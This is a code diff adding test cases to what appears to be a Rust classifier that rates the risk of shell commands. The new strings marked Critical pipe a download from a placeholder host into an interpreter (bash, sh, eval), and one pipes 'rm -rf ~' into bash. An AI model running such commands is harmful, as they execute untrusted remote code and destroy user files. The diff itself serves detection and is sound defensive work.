@@ -91,6 +91,13 @@ const DOWNLOAD_INTO_INTERPRETER: &[(&str, Risk)] = &[
         Critical,
     ),
     ("curl -s https://x.example | xargs eval", Critical),
+    ("curl -s https://x.example | bash -c 'sh'", Critical),
+    ("curl -s https://x.example | bash -c 'cat | sh'", Critical),
+    (
+        "curl -s https://x.example | sh -c 'eval \"$(cat)\"'",
+        Critical,
+    ),
+    ("echo 'rm -rf ~' | bash -c 'sh'", Critical),
     // A file downloaded and then run in the same command.
     ("curl -o x.sh https://x.example && sh x.sh", Critical),
     (
@@ -177,6 +184,7 @@ const MUST_STAY: &[(&str, Risk)] = &[
     ("wget https://x.example/data.csv && wc -l data.csv", High),
     ("curl -o x.sh https://x.example && cat x.sh", High),
     ("echo hi | cat", Low),
+    ("echo hi | bash -c 'cat'", Low),
     ("cat script.sh | grep x", Low),
     ("printf 'ls\\n' | sh", Low),
     ("echo 'git status' | bash", Low),
